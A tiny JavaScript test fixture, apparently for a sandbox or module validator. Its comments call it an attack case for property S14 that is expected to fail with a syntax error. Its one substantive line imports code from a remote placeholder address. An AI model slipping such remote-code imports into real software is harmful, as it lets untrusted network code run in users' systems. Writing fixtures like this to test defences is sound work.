// attack: imports code from an address
// property: S14
// expect: error syntax
import x from "https://example.invalid/x.js";
export default () => x;
